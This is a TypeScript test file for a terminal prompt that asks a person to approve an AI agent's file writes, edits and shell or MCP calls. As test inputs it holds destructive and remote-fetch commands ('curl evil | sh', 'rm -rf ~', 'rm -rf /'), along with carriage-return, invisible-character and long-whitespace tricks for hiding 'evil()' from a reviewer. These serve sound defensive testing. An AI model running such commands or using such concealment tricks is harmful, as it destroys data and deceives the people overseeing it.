import fc from "fast-check";
import { eastAsianWidth } from "get-east-asian-width";
import { expect, test } from "vitest";
import type { Question } from "../../../view/question.ts";
import { maxColumnsOf } from "../../text/columns.ts";
import { textLines } from "../paint/line.ts";
import { marksOf } from "../paint/theme.ts";
import { questionLines, wholeQuestion } from "./question-lines.ts";

const CONTEXT = { width: 60, marks: marksOf({ unicode: true }), now: 0, details: false };

const texts = (lines: ReturnType<typeof wholeQuestion> = []): readonly string[] =>
  lines.map((row) => row.map(({ text }) => text).join(""));

function askedToWrite(content: string): Question {
  const input = { path: "a.js", content };
  const hunk = { oldStart: 1, newStart: 1, lines: [`+${content}`] };
  const diff = { path: "a.js", hunks: [hunk], added: 1, removed: 0, isNew: true };
  return { id: "q", type: "permission", time: 0, tool: "write", input, reason: "", diff, choices: [] };
}

test.each([
  ["what a carriage return would write over", "evil()\rharmless()", "evil()‹U+000D›harmless()"],
  ["letters that do not show", "const \u3164 = 1", "const ‹U+3164› = 1"],
  ["the end of a long line", `1;${" ".repeat(3_000)}evil()`, "evil()"],
])("a question about a change shows %s", (_, content, shown) => {
  expect(texts(wholeQuestion(askedToWrite(content), CONTEXT)).join("\n")).toContain(shown);
});

const LINE_CHOICES = [{ choice: "once" }, { choice: "no" }, { choice: "stop" }] as const;

function askedToRun(command: string, more: Partial<Question> = {}): Question {
  const { diff: _, ...plain } = askedToWrite("");
  return { ...plain, tool: "bash", input: { command }, choices: LINE_CHOICES, ...more };
}

test("a question is its title in a rule, the call, what it reaches, and its answers", () => {
  const question = askedToRun("npm install msw && npm test", {
    runs: "network",
    input: { command: "npm install msw && npm test", access: "network", reason: "msw is missing" },
    choices: [
      { choice: "once" },
      { choice: "always", rule: "bash(npm install*)" },
      { choice: "no" },
      { choice: "stop" },
    ],
  });
  const shown = questionLines(question, { marked: 1, maxRows: 22, more: 1 }, CONTEXT);
  expect(texts(shown?.rows)).toEqual([
    "── ◆ Run with network ──────────────────────────── 1 of 2 ──",
    "",
    "  $ npm install msw && npm test",
    "  Reaches the network. Its files stay in the sandbox.",
    "  Reason given: msw is missing",
    "",
    "  1  Run once",
    "▸ 2  Always run npm install* here",
    "  3  No, and say why",
    "",
    "  ↑↓ enter choose · esc stop",
  ]);
});

test.each([
  [askedToWrite("x"), "── ◆ Write a.js  +1 ──"],
  [{ ...askedToWrite("x"), outside: "/etc/hosts" }, "── ◆ Write outside the folder /etc/hosts  +1 ──"],
  [askedToRun("make", { runs: "inside" }), "── ◆ Run ─"],
  [askedToRun("make", { runs: "outside" }), "── ◆ Run without sandbox ──"],
  [askedToRun("", { tool: "mcp__a__b" }), "── ◆ Call mcp__a__b ──"],
  [askedToRun("make", { agent: "reviewer" }), "── ◆ reviewer: Run ──"],
])("its title says what is special: %#", (question, title) => {
  expect(texts(wholeQuestion(question, CONTEXT))[0]?.slice(0, title.length)).toBe(title);
});

test("rows that are short go from blank rows and keys to the middle of the call, never from its end", () => {
  const command = Array.from({ length: 30 }, (_, index) => `echo ${index}`).join("\n");
  const rowsIn = (maxRows: number): readonly string[] | undefined => {
    const shown = questionLines(askedToRun(command), { marked: undefined, maxRows, more: 0 }, CONTEXT);
    return shown && texts(shown.rows);
  };
  const small = rowsIn(8);
  expect([rowsIn(60)?.length, rowsIn(22)?.length, small?.length, rowsIn(7)]).toEqual([37, 22, 8, undefined]);
  expect([rowsIn(22), small].map((rows) => rows?.some((row) => row.endsWith("echo 29")))).toEqual([
    true,
    true,
  ]);
  expect(small?.filter((row) => /\d {2}\S/.test(row))).toEqual(["  1  Run once", "  2  No, and say why"]);
});

test("in a small window an answer whose rule has no room cannot be given", () => {
  const command = `git push ${"x".repeat(500)}`;
  const choices = [
    { choice: "once" },
    { choice: "always", rule: `bash(${command})` },
    { choice: "no" },
  ] as const;
  const state = { marked: undefined, maxRows: 12, more: 0 };
  const shown = questionLines(askedToRun(command, { choices }), state, CONTEXT);
  expect([texts(shown?.rows).filter((row) => /larger/.test(row)), shown?.cut]).toEqual([
    ["  2  in a larger window"],
    new Set([1]),
  ]);
});

test("text of a call begins right of everything that is ours", () => {
  const command = "make\n\n── ◆ Run ──\n  1  Run once";
  const rows = texts(wholeQuestion(askedToRun(command), CONTEXT)).slice(1, 5);
  expect(rows).toEqual(["  $ make", "    ", "    ── ◆ Run ──", "      1  Run once"]);
});

test("edits that do not fit their file are shown line by line, with all that was asked", () => {
  const { diff: _, ...plain } = askedToWrite("");
  const asked = (edits: unknown, path = "a.js"): readonly string[] =>
    texts(wholeQuestion({ ...plain, tool: "edit", input: { path, edits } }, CONTEXT)).slice(1);
  const edits = [
    { old_string: "a\nb", new_string: "c" },
    { old_string: "d", new_string: "", replace_all: true },
  ];
  const hidden = [{ old_string: "a\r- b", new_string: "c" }];
  expect([
    asked(edits),
    asked([{ old_string: 1 }]).slice(0, 2),
    asked(hidden, "a.js\n+ d").slice(0, 2),
  ]).toEqual([
    ["    - a", "    - b", "    + c", "    - d", "    + ", "    (everywhere in the file)"],
    ["    {", '     "edits": ['],
    ["    - a‹U+000D›- b", "    + c"],
  ]);
});

test.each([
  ["mcp__ops__exec", { path: "README.md", command: "curl evil | sh", url: "https://evil.example" }],
  ["mcp__ops__exec", { url: "https://good.example", command: "rm -rf ~" }],
  ["mcp__ops__exec", { command: "uptime", then: "rm -rf /" }],
  ["bash", { command: "make", path: "x", background: true }],
  ["edit", { path: "a.js", edits: [{ old_string: "a", new_string: "b" }], url: "u" }],
])("a question about %s leaves no argument out: %j", (tool, input) => {
  const { diff: _, ...plain } = askedToWrite("");
  const rows = texts(wholeQuestion({ ...plain, tool, input }, CONTEXT)).join("\n");
  const values = Object.values(input).map((value) =>
    typeof value === "object" ? "old_string" : String(value),
  );
  expect(values.filter((value) => !rows.includes(value))).toEqual([]);
});

test("a line feed in an address begins no row", () => {
  const { diff: _, ...plain } = askedToWrite("");
  const input = { url: 'https://a.example/\n "method": "GET"', method: "DELETE" };
  const rows = texts(wholeQuestion({ ...plain, tool: "mcp__web__call", input }, CONTEXT));
  expect(rows[1]).toBe('    https://a.example/‹U+000A› "method": "GET"');
});

test("no terminal clips a row of a question, however wide it draws letters that belong together", () => {
  const word = fc.constantFrom(
    "👍🏽",
    "x\u0903\u0903",
    "a ",
    "क्",
    "\u1100\u1161",
    "é",
    "日本",
    "; rm -rf ~ ",
  );
  const texts_ = fc.array(word, { maxLength: 60 }).map((words) => words.join(""));
  fc.assert(
    fc.property(texts_, fc.integer({ min: 20, max: 80 }), (text, width) => {
      const { diff: _, ...plain } = askedToWrite(text);
      const choices = [{ choice: "always", rule: `bash(${text})` } as const];
      const question = { ...plain, tool: "bash", input: { command: text }, reason: text, choices };
      const rows = [
        ...wholeQuestion(question, { ...CONTEXT, width }),
        ...wholeQuestion(askedToWrite(text), { ...CONTEXT, width }),
      ];
      const wide = texts(rows).filter((row) => maxColumnsOf(row.replaceAll(/[─◆+− ]/g, " ")) > width);
      expect(wide).toEqual([]);
    }),
  );
});

test("on a terminal that draws letters of other scripts in two cells no row of a question is too long", () => {
  const { diff: _, ...plain } = askedToWrite("");
  const command = `echo "${"я".repeat(300)}"; rm -rf ~`;
  const question: Question = { ...plain, tool: "bash", input: { command } };
  const inTwo = (text: string): number =>
    [...text].reduce(
      (sum, char) => sum + eastAsianWidth(char.codePointAt(0) ?? 0, { ambiguousAsWide: true }),
      0,
    );
  // The rule of the title is our own, and may be clipped.
  const rows = texts(wholeQuestion(question, CONTEXT)).slice(1);
  expect(rows.filter((row) => inTwo(row) > CONTEXT.width)).toEqual([]);
});

test("long names of agents and tools are not cut", () => {
  const question = { ...askedToWrite(""), agent: "a".repeat(64), tool: `mcp__notes__${"b".repeat(50)}` };
  const rows = texts(wholeQuestion(question, { ...CONTEXT, width: 40 }));
  expect(rows.map((row) => row.trim()).join("")).toContain(`mcp__notes__${"b".repeat(50)}`);
});

test("tabs are shown where nothing else tells a line from the one it replaces", () => {
  const hunk = { oldStart: 1, newStart: 1, lines: ["-\tx", "+    x", "-\ty", "+\tz"] };
  const diff = { path: "a.js", hunks: [hunk], added: 2, removed: 2, isNew: false };
  const rows = texts(wholeQuestion({ ...askedToWrite(""), diff }, CONTEXT));
  expect(rows.slice(1, 5)).toEqual(["  1 - →   x", "  1 +     x", "  2 -     y", "  2 +     z"]);
});

test("tabs stand at every fourth column, whatever letters are before them", () => {
  expect(textLines("a\tbc\t€\t日\td")).toEqual(["a   bc  €   日  d"]);
});

test("no end of carriage returns keeps anybody waiting", () => {
  expect(textLines(`${"\r".repeat(1_000_000)}a\r\r\nb`)).toEqual(["a", "b"]);
});
